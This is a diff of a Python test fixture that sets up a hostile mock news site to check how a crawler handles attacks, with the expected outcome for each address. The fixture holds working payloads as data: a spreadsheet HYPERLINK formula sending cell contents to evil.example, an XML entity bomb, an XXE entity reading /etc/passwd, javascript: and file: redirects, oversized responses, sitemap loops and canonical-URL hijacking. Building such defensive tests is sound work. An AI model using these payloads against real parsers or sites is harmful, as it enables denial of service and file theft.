@@ -1,4 +1,4 @@
-"""An outlet that attacks who reads it, and one that it attacks; addresses by how they must end."""
+"""An outlet that attacks its crawlers and another outlet, with the outcome of each address."""
 
 import json
 from itertools import pairwise
@@ -15,50 +15,50 @@ ESCAPES = (
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"افتتاح السوق القديم بعد ترميم")'
 BOMB = (
     '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">'
-    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in pairwise("abcdefghi"))
+    + "".join(f'<!ENTITY {name} "{f"&{part};" * 10}">' for part, name in pairwise("abcdefghi"))
     + "]>"
 )
 OUTSIDE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
 
 
 def body(number: int) -> str:
-    """Write a text of its own for each article."""
+    """Write the paragraphs of an article, which differ by its number."""
     return paragraphs([f"{text} ({number}: {'حديد ' * number})" for text in PARAGRAPHS])
 
 
 def article(number: int, title: str, *, head: str = "") -> Act:
     """Answer with an article."""
-    shown = title.replace("&", "&amp;").replace("<", "&lt;")
-    return page(document(f"<h1>{shown}</h1>{body(number)}", head=head, title=shown).encode())
+    escaped = title.replace("&", "&amp;").replace("<", "&lt;")
+    return page(document(f"<h1>{escaped}</h1>{body(number)}", head=head, title=escaped).encode())
 
 
 def structured(value: object) -> str:
-    """Write JSON-LD."""
+    """Write a JSON-LD script."""
     return f'<script type="application/ld+json">{json.dumps(value)}</script>'
 
 
 def sitemap(*urls: str, first: str = "") -> Act:
-    """Answer with a list of addresses."""
+    """Answer with a sitemap; `first` stands before it."""
     rows = "".join(f"<url><loc>{url}</loc></url>" for url in urls)
     return page(f"{first}<urlset>{rows}</urlset>".encode(), XML)
 
 
 def index(*urls: str) -> Act:
-    """Answer with a list of sitemaps."""
+    """Answer with a sitemap index."""
     rows = "".join(f"<sitemap><loc>{url}</loc></sitemap>" for url in urls)
     return page(f"<sitemapindex>{rows}</sitemapindex>".encode(), XML)
 
 
 def victim(site: Hostile) -> str:
-    """Publish one article; return its address."""
+    """Publish the article that is attacked; return its address."""
     site.acts = {f"{DAY}/own-1001": article(0, "متحف المدينة يستعيد تمثالا نادرا بعد غياب طويل")}
     return f"{site.home}{DAY}/own-1001"
 
 
 def attack(site: Hostile, target: str) -> dict[str, str]:
-    """Publish the attacks; return the outcome each article's address must have, by its name."""
-    front = _front(site)
-    stored = _stored(site, target)
+    """Publish the attacks; return the outcome of each article's address, by the end of its path."""
+    front = _front_page(site)
+    stored = _stored_articles(site, target)
     others: dict[str, tuple[Act, str]] = {
         "consent-2001": (
             page("<title>قبل المتابعة</title><form><p>نستخدم ملفات".encode()),
@@ -74,17 +74,18 @@ def attack(site: Hostile, target: str) -> dict[str, str]:
         "script-2006": (moved("javascript:alert(1)"), "failed:bad-redirect"),
         "file-2007": (moved("file:///etc/passwd"), "failed:http-302"),
         "binary-2008": (page(bytes(range(256)) * 99), "rejected:not-an-article"),
-        "huge-2009": (_huge, "failed:too-large"),
-        "word-2010": (_grown(10, f"<p>{'ق' * 1_000_000}</p>"), "rejected:not-an-article"),
+        "huge-2009": (_send_100_megabytes, "failed:too-large"),
+        "word-2010": (_grown_article(10, f"<p>{'ق' * 1_000_000}</p>"), "rejected:not-an-article"),
     }
     acts = stored | {name: act for name, (act, _) in others.items()}
     site.acts = {f"{DAY}/{name}": act for name, act in acts.items()}
-    named = [f"{site.home}{DAY}/{name}" for name in acts]
-    site.acts |= _sources(site, named) | {"/": front}
-    return dict.fromkeys(stored, "stored") | {name: end for name, (_, end) in others.items()}
+    urls = [f"{site.home}{DAY}/{name}" for name in acts]
+    site.acts |= _sources(site, urls) | {"/": front}
+    outcomes = {name: outcome for name, (_, outcome) in others.items()}
+    return dict.fromkeys(stored, "stored") | outcomes
 
 
-def _stored(site: Hostile, target: str) -> dict[str, Act]:
+def _stored_articles(site: Hostile, target: str) -> dict[str, Act]:
     theft = (
         f'<link rel="canonical" href="{target}"><meta property="og:url" content="{target}">'
         + structured({"@type": "NewsArticle", "@id": target, "url": target})
@@ -120,40 +121,44 @@ def _stored(site: Hostile, target: str) -> dict[str, Act]:
             head=structured({"@graph": chain * 9000})
             + f'<script type="application/ld+json">{deep}</script>',
         ),
-        "attributes-1007": _grown(7, f"<p {' '.join(f'a{n}=1' for n in range(1_000_000))}>"),
-        "attribute-1008": _grown(8, f'<div class="{"a" * 10_000_000}">'),
+        "attributes-1007": _grown_article(
+            7, f"<p {' '.join(f'a{n}=1' for n in range(1_000_000))}>"
+        ),
+        "attribute-1008": _grown_article(8, f'<div class="{"a" * 10_000_000}">'),
     }
 
 
-def _grown(number: int, below: str) -> Act:
-    """Answer with an article that has megabytes below its text."""
+def _grown_article(number: int, below: str) -> Act:
+    """Answer with an article and megabytes below its text."""
     title = f"معرض الكتاب يفتح أبوابه للمرة {number} في المدينة"
     return page(document(f"<h1>{title}</h1>{body(number)}{below}", title=title).encode())
 
 
-def _huge(line: Line) -> None:
+def _send_100_megabytes(line: Line) -> None:
     line.send(head())
     for _ in range(100):
         line.send(b"<p>ha</p>" * (MEGABYTE // 9))
 
 
-def _front(site: Hostile) -> Act:
+def _front_page(site: Hostile) -> Act:
     home = site.home.removeprefix("http://")
-    places = (
+    addresses = (
         *("javascript:alert(1)", "data:text/html,<h1>x", "file:///etc/passwd"),
         *(f"http://user:geheim@{home}{DAY}/secret-3001", f"{DAY}/{'x' * 10_000}-3002"),
         *(f"{DAY}/theft-1001?PHPSESSID={number:032x}" for number in range(9)),
     )
-    rows = "".join(f'<li><a href="{place}">عنوان طويل لخبر من أخبار اليوم</a>' for place in places)
+    rows = "".join(
+        f'<li><a href="{address}">عنوان طويل لخبر من أخبار اليوم</a>' for address in addresses
+    )
     return page(document(f"<ul>{rows}</ul>", title="الرئيسية").encode(), HTML)
 
 
-def _sources(site: Hostile, named: list[str]) -> dict[str, Act]:
+def _sources(site: Hostile, urls: list[str]) -> dict[str, Act]:
     home = site.home
     lines = (f"Sitemap: {home}/{name}.xml" for name in ("news", "loop-a", "bomb", "outside"))
     return {
         "/robots.txt": page("\n".join(lines).encode(), "text/plain"),
-        "/news.xml": sitemap(*named),
+        "/news.xml": sitemap(*urls),
         "/loop-a.xml": index(f"{home}/loop-b.xml", f"{home}/loop-a.xml"),
         "/loop-b.xml": index(f"{home}/loop-a.xml", f"{home}/loop-b.xml"),
         "/bomb.xml": sitemap(f"{home}{DAY}/&i;-4001", first=BOMB),
